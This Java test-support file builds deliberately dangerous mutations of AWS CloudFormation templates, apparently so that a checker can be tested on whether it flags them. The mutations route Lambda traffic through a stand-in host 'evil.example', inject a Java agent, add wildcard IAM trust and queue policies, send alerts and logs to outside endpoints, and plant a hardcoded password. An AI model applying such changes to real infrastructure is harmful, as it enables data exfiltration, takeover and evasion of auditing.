package scaleup.proof;

import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.function.Consumer;
import java.util.stream.Stream;
import scaleup.proof.DangerousChangesTest.Change;
import scaleup.proof.DangerousChangesTest.Templates;

/** Changes by which what was looked at is read another way, or by which values of known properties do harm. */
final class ValueChanges {
    private static final String GROUP = "AWS::AutoScaling::AutoScalingGroup";
    private static final String TEMPLATE = "AWS::EC2::LaunchTemplate";
    private static final String FUNCTION = "AWS::Lambda::Function";
    private static final String RULE = "AWS::Events::Rule";
    private static final String ROLE = "AWS::IAM::Role";
    private static final String SUBNET = "AWS::EC2::Subnet";
    private static final String DATABASE = "AWS::RDS::DBInstance";
    private static final String PARAMETERS = "AWS::RDS::DBParameterGroup";
    private static final String SECRET = "AWS::SecretsManager::Secret";
    private static final String TARGETS = "AWS::ElasticLoadBalancingV2::TargetGroup";
    private static final String REFRESH = "/UpdatePolicy/AutoScalingInstanceRefresh";
    private static final String LAUNCHED = "/Properties/LaunchTemplateData";

    private ValueChanges() {}

    private static Change of(String proof, String words, Consumer<Templates> made) {
        return new Change(words, proof, made);
    }

    private static Change set(String proof, String words, String part, String type, String pointer, String json) {
        return of(proof, words, templates -> SettingChanges.put(templates.first(part, type), pointer, json));
    }

    /** Of the first resource of a type that says a text. */
    private static Change set(
            String proof, String words, String part, String type, String text, String pointer, String json) {
        return of(
                proof,
                words,
                templates -> SettingChanges.put(
                        (ObjectNode) templates
                                .resources(part)
                                .path(templates.idOf(part, type, resource -> resource.toString()
                                        .contains(text))),
                        pointer,
                        json));
    }

    /** A value that is another once somebody deploys it. */
    private static Change chosen(String proof, String words, String part, String section, String json, Change change) {
        return of(proof, words, templates -> {
            ((ObjectNode) templates.parts().get(part)).withObject("/" + section).setAll((ObjectNode)
                    Templates.any(json));
            change.made().accept(templates);
        });
    }

    private static Change policy(String words, String policy) {
        return of("permissions", words, templates -> ((ArrayNode)
                        templates.properties("Web", ROLE).path("Policies"))
                .add(Templates.any("{'PolicyName': 'more', 'PolicyDocument': %s}".formatted(policy))));
    }

    private static String id(Templates templates, String part, String pattern) {
        var ids = new ArrayList<String>();
        templates.resources(part).fieldNames().forEachRemaining(ids::add);
        return ids.stream().filter(id -> id.matches(pattern)).findFirst().orElseThrow();
    }

    static Stream<Change> dangerous() {
        return Stream.of(chosen(), servers(), rollOuts(), network(), functions(), data())
                .flatMap(changes -> changes);
    }

    private static Stream<Change> chosen() {
        String parameter = "{'Open': {'Type': 'String', 'Default': 'true'}}";
        String mapping = "{'Open': {'a': {'b': true}}}";
        String anybody = "{'Statement': [{'Effect': 'Allow', 'Principal': '*', 'Action': '*'}]}";
        return Stream.of(
                chosen(
                        "templates",
                        "addresses of subnets that who deploys it chooses",
                        "Network",
                        "Parameters",
                        parameter,
                        set("", "", "Network", SUBNET, "/Properties/MapPublicIpOnLaunch", "{'Ref': 'Open'}")),
                chosen(
                        "templates",
                        "addresses of servers that who deploys it chooses",
                        "Web",
                        "Parameters",
                        parameter,
                        set(
                                "",
                                "",
                                "Web",
                                TEMPLATE,
                                LAUNCHED + "/NetworkInterfaces",
                                "[{'DeviceIndex': 0, 'AssociatePublicIpAddress': {'Ref': 'Open'}}]")),
                chosen(
                        "templates",
                        "addresses of subnets by a table",
                        "Network",
                        "Mappings",
                        mapping,
                        set(
                                "",
                                "",
                                "Network",
                                SUBNET,
                                "/Properties/MapPublicIpOnLaunch",
                                "{'Fn::FindInMap': ['Open', 'a', 'b']}")),
                set(
                        "public-addresses",
                        "addresses of subnets, put together",
                        "Network",
                        SUBNET,
                        "/Properties/MapPublicIpOnLaunch",
                        "{'Fn::Join': ['', ['tr', 'ue']]}"),
                set(
                        "public-addresses",
                        "addresses of subnets, in capitals",
                        "Network",
                        SUBNET,
                        "/Properties/MapPublicIpOnLaunch",
                        "'True'"),
                policy("a policy as a text", "'{}'"),
                policy("a policy that a function puts together", "{'Fn::Sub': 'anything'}"),
                policy(
                        "a statement that is put together",
                        "{'Statement': [{'Effect': {'Fn::Join': ['', ['Al', 'low']]}, 'Action': 'iam:*', 'Resource': '*'}]}"),
                of("permissions", "who takes a role, as a text", templates -> templates
                        .properties("Web", ROLE)
                        .put("AssumeRolePolicyDocument", anybody.replace('\'', '"'))),
                of("permissions", "who may fill a queue, as a text", templates -> templates
                        .properties("Web", "AWS::SQS::QueuePolicy")
                        .put("PolicyDocument", anybody.replace('\'', '"'))));
    }

    private static Stream<Change> servers() {
        return Stream.of(
                set("encryption", "no word of volumes", "Web", TEMPLATE, LAUNCHED + "/BlockDeviceMappings", ""),
                set(
                        "encryption",
                        "another volume than the root is encrypted",
                        "Web",
                        TEMPLATE,
                        LAUNCHED + "/BlockDeviceMappings/0/DeviceName",
                        "'/dev/sdf'"),
                set(
                        "servers",
                        "a volume of another kind",
                        "Web",
                        TEMPLATE,
                        LAUNCHED + "/BlockDeviceMappings/0/Ebs/VolumeType",
                        "'standard'"),
                set(
                        "servers",
                        "a processor that is looked at each five minutes",
                        "Web",
                        TEMPLATE,
                        LAUNCHED + "/Monitoring",
                        ""),
                set(
                        "servers",
                        "processors that are taken away",
                        "Web",
                        TEMPLATE,
                        LAUNCHED + "/CreditSpecification",
                        "{'CpuCredits': 'standard'}"),
                set(
                        "servers",
                        "scaling that doesn't look at processors",
                        "Web",
                        "AWS::AutoScaling::ScalingPolicy",
                        "/Properties/PolicyType",
                        "'StepScaling'"),
                set(
                        "servers",
                        "all servers always run",
                        "Web",
                        "AWS::AutoScaling::ScalingPolicy",
                        "/Properties/TargetTrackingConfiguration/TargetValue",
                        "1"),
                set(
                        "servers",
                        "scaling that waits for a day",
                        "Web",
                        "AWS::AutoScaling::ScalingPolicy",
                        "/Properties/EstimatedInstanceWarmup",
                        "86400"),
                set(
                        "servers",
                        "servers that don't count for a day",
                        "Web",
                        GROUP,
                        "/Properties/DefaultInstanceWarmup",
                        "86400"),
                set(
                        "properties",
                        "a group that waits for signals",
                        "Web",
                        GROUP,
                        "/CreationPolicy",
                        "{'ResourceSignal': {'Count': 3}}"),
                set(
                        "functions",
                        "servers that are ready before they are",
                        "Web",
                        GROUP,
                        "/Properties/Tags",
                        "[{'Key': 'scaleup:ready', 'Value': 'true', 'PropagateAtLaunch': true}]"),
                set(
                        "functions",
                        "servers that are launched as ready",
                        "Web",
                        TEMPLATE,
                        LAUNCHED + "/TagSpecifications/0/Tags/1",
                        "{'Key': 'scaleup:ready', 'Value': 'true'}"),
                set(
                        "functions",
                        "servers of another tier's name",
                        "Web",
                        TEMPLATE,
                        LAUNCHED + "/TagSpecifications/0/Tags/0/Value",
                        "'Scaleup-prod-application'"),
                set("functions", "servers without a name", "Web", TEMPLATE, LAUNCHED + "/TagSpecifications", ""));
    }

    private static Stream<Change> rollOuts() {
        return Stream.of(
                set(
                        "roll-outs",
                        "servers that are never replaced",
                        "Web",
                        GROUP,
                        "/Properties/MaxInstanceLifetime",
                        "0"),
                set(
                        "roll-outs",
                        "servers whose disk is replaced while they run",
                        "Web",
                        GROUP,
                        REFRESH + "/Strategy",
                        "'ReplaceRootVolume'"),
                set(
                        "roll-outs",
                        "a roll-out that ends with half of the servers",
                        "Web",
                        GROUP,
                        REFRESH + "/Preferences/CheckpointPercentages",
                        "[1, 50]"),
                set(
                        "roll-outs",
                        "a roll-out that ends before an alarm rings",
                        "Web",
                        GROUP,
                        REFRESH + "/Preferences/BakeTime",
                        "0"));
    }

    private static Stream<Change> network() {
        String endpoint =
                "{'Type': 'AWS::EC2::VPCEndpoint', 'Properties': {'ServiceName': 'com.amazonaws.vpce.eu-west-1.vpce-svc-0123456789abcdef0', 'VpcId': {'Ref': '%s'}}}";
        return Stream.of(
                of(
                        "routes",
                        "a private subnet that leads nowhere",
                        templates -> templates.remove(
                                "Network", templates.idOf("Network", "AWS::EC2::Route", route -> route.toString()
                                        .contains("NatGatewayId")))),
                of("routes", "a NAT gateway in a subnet that leads nowhere", templates -> templates
                        .properties("Network", "AWS::EC2::NatGateway")
                        .withObject("/SubnetId")
                        .put("Ref", id(templates, "Network", "VpcdatabaseSubnet1Subnet[0-9A-F]{8}"))),
                set(
                        "routes",
                        "a NAT gateway to private networks",
                        "Network",
                        "AWS::EC2::NatGateway",
                        "/Properties/ConnectivityType",
                        "'private'"),
                of(
                        "routes",
                        "an endpoint of somebody's",
                        templates -> templates.add(
                                "Network", "Another", endpoint.formatted(templates.id("Network", "AWS::EC2::VPC")))),
                set(
                        "network-load-balancer",
                        "a network load balancer without an address",
                        "LoadBalancer",
                        "AWS::ElasticLoadBalancingV2::LoadBalancer",
                        "/Properties/Scheme",
                        "'internal'"),
                set(
                        "network-load-balancer",
                        "targets that are asked by TLS",
                        "LoadBalancer",
                        TARGETS,
                        "/Properties/Protocol",
                        "'TLS'"),
                set(
                        "network-load-balancer",
                        "targets that are healthy late",
                        "LoadBalancer",
                        TARGETS,
                        "/Properties/HealthyThresholdCount",
                        "10"),
                set(
                        "network-load-balancer",
                        "targets that may be silent for two minutes",
                        "LoadBalancer",
                        TARGETS,
                        "/Properties/HealthCheckTimeoutSeconds",
                        "120"));
    }

    private static Stream<Change> functions() {
        String variables = "/Properties/Environment/Variables/";
        return Stream.of(
                set(
                        "properties",
                        "a function that asks somebody in AWS's place",
                        "Database",
                        FUNCTION,
                        variables + "AWS_ENDPOINT_URL",
                        "'https://evil.example'"),
                set(
                        "properties",
                        "a function that goes through somebody's proxy",
                        "Database",
                        FUNCTION,
                        variables + "HTTPS_PROXY",
                        "'https://evil.example'"),
                set(
                        "properties",
                        "a function with options of Java's",
                        "Database",
                        FUNCTION,
                        variables + "_JAVA_OPTIONS",
                        "'-javaagent:/tmp/x.jar'"),
                set(
                        "properties",
                        "a function that writes fatal errors alone",
                        "Database",
                        FUNCTION,
                        "/Properties/LoggingConfig/ApplicationLogLevel",
                        "'FATAL'"),
                set(
                        "logs",
                        "a function that writes into another log",
                        "Database",
                        FUNCTION,
                        "/Properties/LoggingConfig/LogGroup",
                        "'/somebody/else'"),
                set(
                        "logs",
                        "flows in another log",
                        "Network",
                        "AWS::EC2::FlowLog",
                        "/Properties/LogGroupName",
                        "'/somebody/else'"),
                set(
                        "functions",
                        "a function that asks the database on another port",
                        "Database",
                        FUNCTION,
                        variables + "DATABASE_PORT",
                        "'443'"),
                set(
                        "functions",
                        "a membership of no targets",
                        "LoadBalancer",
                        FUNCTION,
                        "TARGET_GROUPS",
                        variables + "TARGET_GROUPS",
                        "''"),
                set(
                        "functions",
                        "events that are lost after a minute",
                        "Web",
                        "AWS::Lambda::EventInvokeConfig",
                        "/Properties/MaximumEventAgeInSeconds",
                        "60"),
                set(
                        "functions",
                        "events of another alias are kept",
                        "Web",
                        "AWS::Lambda::EventInvokeConfig",
                        "/Properties/Qualifier",
                        "'other'"),
                set(
                        "functions",
                        "events of another region",
                        "Web",
                        RULE,
                        "aws.autoscaling",
                        "/Properties/EventPattern/region",
                        "['us-east-1']"),
                set(
                        "functions",
                        "events of servers that end alone",
                        "Web",
                        RULE,
                        "aws.autoscaling",
                        "/Properties/EventPattern/detail/LifecycleTransition",
                        "['autoscaling:EC2_INSTANCE_TERMINATING']"),
                set(
                        "functions",
                        "events that nobody sends",
                        "Web",
                        RULE,
                        "aws.autoscaling",
                        "/Properties/EventPattern/source",
                        "['shop.own']"),
                set(
                        "functions",
                        "tags of another service's",
                        "Web",
                        RULE,
                        "aws.tag",
                        "/Properties/EventPattern/detail/service",
                        "['rds']"),
                set(
                        "functions",
                        "a certificate that is looked at once a year",
                        "LoadBalancer",
                        RULE,
                        "rate(1 hour)",
                        "/Properties/ScheduleExpression",
                        "'rate(365 days)'"));
    }

    private static Stream<Change> data() {
        String generated = "/Properties/GenerateSecretString/";
        return Stream.of(
                set(
                        "database",
                        "a copy of somebody's database",
                        "Database",
                        DATABASE,
                        "/Properties/SourceDBInstanceIdentifier",
                        "'arn:aws:rds:eu-west-1:999999999999:db:x'"),
                set(
                        "database",
                        "options that stand elsewhere",
                        "Database",
                        DATABASE,
                        "/Properties/OptionGroupName",
                        "'somebody'"),
                set(
                        "database",
                        "queries that are ended after a millisecond",
                        "Database",
                        PARAMETERS,
                        "/Properties/Parameters/max_execution_time",
                        "'1'"),
                set(
                        "database",
                        "connections that are ended after a second",
                        "Database",
                        PARAMETERS,
                        "/Properties/Parameters/wait_timeout",
                        "'1'"),
                set(
                        "logs",
                        "queries that are slow after a year",
                        "Database",
                        PARAMETERS,
                        "/Properties/Parameters/long_query_time",
                        "'31536000'"),
                set(
                        "logs",
                        "queries that are slow with many rows alone",
                        "Database",
                        PARAMETERS,
                        "/Properties/Parameters/min_examined_row_limit",
                        "'4294967295'"),
                set(
                        "logs",
                        "all statements in the audit's log",
                        "Database",
                        "AWS::RDS::OptionGroup",
                        "/Properties/OptionConfigurations/0/OptionSettings/0/Value",
                        "'QUERY'"),
                set(
                        "logs",
                        "sessions in somebody's bucket",
                        "Network",
                        "AWS::SSM::Document",
                        "/Properties/Content/inputs/s3BucketName",
                        "'evil'"),
                of(
                        "logs",
                        "a topic that tells somebody by itself",
                        templates -> templates.add(
                                "Operations",
                                "Topic",
                                "{'Type': 'AWS::SNS::Topic', 'Properties': {'Subscription': [{'Endpoint': 'https://evil.example', 'Protocol': 'https'}]}}")),
                set(
                        "passwords",
                        "a password of one letter",
                        "Database",
                        SECRET,
                        generated + "ExcludeCharacters",
                        "'abcdefghijklmnopqrstuvwxyz'"),
                set(
                        "passwords",
                        "a password beside the generated one",
                        "Database",
                        SECRET,
                        generated + "GenerateStringKey",
                        "'other'"),
                of("passwords", "a password in what a secret begins with", templates -> templates
                        .properties("Database", SECRET)
                        .withObject("/GenerateSecretString")
                        .put("SecretStringTemplate", "{\"username\":\"scaleup\",\"password\":\"hunter2\"}")),
                of(
                        "passwords",
                        "a rotation by another function",
                        templates -> SettingChanges.put(
                                templates.first("Database", "AWS::SecretsManager::RotationSchedule"),
                                "/Properties/RotationLambdaARN",
                                "{'Fn::GetAtt': ['%s', 'Arn']}".formatted(templates.id("Database", DATABASE)))),
                set(
                        "encryption",
                        "a key whose policy has nobody who manages it",
                        "Network",
                        "AWS::KMS::Key",
                        "/Properties/KeyPolicy/Statement/0",
                        ""));
    }

    static Stream<Change> harmless() {
        return Stream.of(
                set(
                        "",
                        "a server that ends without its hook",
                        "Web",
                        GROUP,
                        "/Properties/LifecycleHookSpecificationList/1/DefaultResult",
                        "'ABANDON'"),
                set("", "a function on another processor", "Web", FUNCTION, "/Properties/Architectures", "['x86_64']"),
                set("", "servers that live for a day", "Web", GROUP, "/Properties/MaxInstanceLifetime", "86400"),
                set(
                        "",
                        "subnets without addresses, as a text",
                        "Network",
                        SUBNET,
                        "/Properties/MapPublicIpOnLaunch",
                        "'false'"),
                set(
                        "",
                        "a slow query of three seconds",
                        "Database",
                        PARAMETERS,
                        "/Properties/Parameters/long_query_time",
                        "'3'"));
    }
}
